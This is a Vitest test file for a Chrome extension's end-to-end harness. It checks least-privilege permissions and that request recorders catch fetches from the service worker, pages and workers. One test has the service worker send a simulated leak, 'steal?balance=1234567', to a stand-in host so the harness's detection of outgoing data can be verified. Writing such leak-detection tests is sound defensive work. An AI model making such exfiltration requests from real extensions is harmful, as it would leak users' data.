/**
 * Self-test of the end-to-end harness: the extension really loads, its
 * install-time permissions are least-privilege, and the request recorders
 * really see what the service worker, pages and workers fetch.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  assertNoForeignRequests,
  isAllowedRequest,
  launchExtension,
  recordersThatSaw,
  waitUntil,
  type ExtensionHarness,
} from './harness';
import { startProbeServer, type ProbeServer } from './local-servers';

let harness: ExtensionHarness;
let probe: ProbeServer;

beforeAll(async () => {
  probe = await startProbeServer();
  harness = await launchExtension();
});

afterAll(async () => {
  await harness?.close();
  await probe?.close();
});

const LEAK_HOST = 'strata-harness-leak.invalid';

interface ServedManifest {
  manifest_version: number;
  background?: { service_worker?: string };
  permissions?: string[];
  host_permissions?: string[];
  optional_host_permissions?: string[];
}

/** The one piece of the `chrome` extension API used below (its types are not loaded here). */
interface ChromePermissionsGlobal {
  chrome: { permissions: { getAll(): Promise<{ origins?: string[]; permissions?: string[] }> } };
}

describe('the built extension in Chromium', () => {
  it('runs its background service worker under a chrome-extension:// id', async () => {
    expect(harness.extensionId).toMatch(/^[a-p]{32}$/);
    const manifest = await harness.serviceWorker.evaluate(
      async (url) => (await fetch(url)).json() as Promise<ServedManifest>,
      `${harness.extensionOrigin}/manifest.json`,
    );
    expect(harness.serviceWorker.url()).toBe(`${harness.extensionOrigin}/${manifest.background?.service_worker}`);
  });

  it('asks for no host access at install: no host_permissions, no <all_urls>, only optional hosts', async () => {
    const manifestUrl = `${harness.extensionOrigin}/manifest.json`;
    const text = await harness.serviceWorker.evaluate(async (url) => (await fetch(url)).text(), manifestUrl);
    const manifest = JSON.parse(text) as ServedManifest;
    expect(manifest.manifest_version).toBe(3);
    expect(manifest.host_permissions ?? []).toEqual([]);
    expect(manifest.optional_host_permissions?.length ?? 0).toBeGreaterThan(0);
    expect(text).not.toContain('<all_urls>');
    // What Chromium actually granted, not only what the file says.
    const granted = await harness.serviceWorker.evaluate(() =>
      (globalThis as unknown as ChromePermissionsGlobal).chrome.permissions.getAll(),
    );
    expect(granted.origins ?? []).toEqual([]);
    expect(granted.permissions ?? []).not.toContain('<all_urls>');
  });

  it('opens popup.html and options.html as pages, without uncaught errors', async () => {
    for (const [name, open] of [['popup', harness.openPopup], ['options', harness.openOptions]] as const) {
      const page = await open();
      expect(page.url()).toBe(`${harness.extensionOrigin}/${name}.html`);
      expect(await page.evaluate(() => document.readyState)).not.toBe('loading');
      await page.close();
    }
    expect(harness.pageErrors).toEqual([]);
  });
});

describe('the request recorder', () => {
  it('sees a fetch made inside the extension service worker, through Playwright and CDP', async () => {
    const url = `${probe.origin}/probe/service-worker?n=1`;
    const body = await harness.serviceWorker.evaluate(async (u) => (await fetch(u)).text(), url);
    expect(body).toBe('probe /probe/service-worker?n=1');
    expect(probe.hits).toContain('/probe/service-worker?n=1');
    await waitUntil(() => recordersThatSaw(harness.requests, (u) => u === url).size === 2, 'both recorders saw it');
    expect([...recordersThatSaw(harness.requests, (u) => u === url)].sort()).toEqual(['cdp', 'playwright']);
    const cdpEntry = harness.requests.find((r) => r.url === url && r.seenBy === 'cdp');
    expect(cdpEntry?.from).toBe(`service_worker ${harness.serviceWorker.url()}`);
  });

  it('sees a fetch made by an extension page, through Playwright and CDP', async () => {
    const page = await harness.openPopup();
    const url = `${probe.origin}/probe/page?n=2`;
    expect(await page.evaluate(async (u) => (await fetch(u)).text(), url)).toBe('probe /probe/page?n=2');
    await waitUntil(() => recordersThatSaw(harness.requests, (u) => u === url).size === 2, 'both recorders saw it');
    const cdpEntry = harness.requests.find((r) => r.url === url && r.seenBy === 'cdp');
    expect(cdpEntry?.from).toBe(`page ${harness.extensionOrigin}/popup.html`);
    await page.close();
  });

  it('sees a fetch made by a dedicated worker that an extension page starts', async () => {
    const page = await harness.openPopup();
    const url = `${probe.origin}/probe/dedicated-worker?n=3`;
    const body = await page.evaluate(async (u) => {
      const source = `fetch(${JSON.stringify(u)}).then((r) => r.text()).then((t) => postMessage(t), (e) => postMessage(String(e)))`;
      const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
      return new Promise<string>((resolve) => (worker.onmessage = (e) => resolve(String(e.data))));
    }, url);
    expect(body).toBe('probe /probe/dedicated-worker?n=3');
    // Playwright holds a new worker until its recorder is on, so it sees the
    // worker's first request. The CDP recorder attaches to the worker too, but
    // Playwright may release the worker first, so CDP is not asserted here.
    await waitUntil(() => recordersThatSaw(harness.requests, (u) => u === url).has('playwright'), 'Playwright saw it');
    await page.close();
  });

  it('catches requests for outside hosts at the proxy and reports them as foreign', async () => {
    const httpUrl = `http://${LEAK_HOST}/steal?balance=1234567`;
    const httpsUrl = `https://${LEAK_HOST}/steal-tls`;
    for (const url of [httpUrl, httpsUrl]) {
      const outcome = await harness.serviceWorker.evaluate(async (u) => {
        try {
          return `status ${(await fetch(u)).status}`;
        } catch {
          return 'network error';
        }
      }, url);
      // The sink forwards nothing: the request can only fail or be refused.
      expect(['network error', 'status 403']).toContain(outcome);
    }
    await waitUntil(
      () => recordersThatSaw(harness.requests, (u) => u === httpUrl).size === 3,
      'Playwright, CDP and the proxy all saw the plain-HTTP leak',
    );
    // An HTTPS request reaches the proxy as a CONNECT to its host: the path stays secret, the host does not.
    await waitUntil(
      () => recordersThatSaw(harness.requests, (u) => u === `https://${LEAK_HOST}:443/`).has('proxy'),
      'the proxy saw the CONNECT for the HTTPS leak',
    );
    expect(() => harness.assertNoForeignRequests([probe.origin])).toThrow(/GET http:\/\/strata-harness-leak\.invalid\/steal\?balance=1234567/);
    expect(() => harness.assertNoForeignRequests([probe.origin])).toThrow(/CONNECT https:\/\/strata-harness-leak\.invalid:443\//);
    expect(() => harness.assertNoForeignRequests([probe.origin])).toThrow(
      /seen by cdp, playwright, proxy; from .*service_worker chrome-extension:\/\//,
    );
  });

  it('saw nothing else leave the browser during this file (Chromium noise included)', () => {
    const others = harness.requests.filter((r) => !r.url.includes(LEAK_HOST));
    assertNoForeignRequests(others, [harness.extensionOrigin, probe.origin]);
    // The local probe server was reached only by the three requests above that targeted it.
    expect(probe.hits).toEqual(['/probe/service-worker?n=1', '/probe/page?n=2', '/probe/dedicated-worker?n=3']);
  });
});

describe('isAllowedRequest', () => {
  const id = 'abcdefghijklmnopabcdefghijklmnop';
  const allowed = [`chrome-extension://${id}`, 'http://127.0.0.1:4100'];
  it.each([
    [`chrome-extension://${id}/popup.html`, true],
    [`chrome-extension://${id}`, true],
    [`blob:chrome-extension://${id}/2f0c`, true],
    ['data:text/plain,hi', true],
    ['http://127.0.0.1:4100/probe?x=1', true],
    ['http://127.0.0.1:41001/probe', false],
    [`chrome-extension://${id}evil/x`, false],
    ['chrome-extension://ponmlkjihgfedcbaponmlkjihgfedcba/x', false],
    ['https://example.com/', false],
    ['http://localhost:4100/probe', false],
  ])('%s → %s', (url, expected) => {
    expect(isAllowedRequest(url, allowed)).toBe(expected);
  });
});
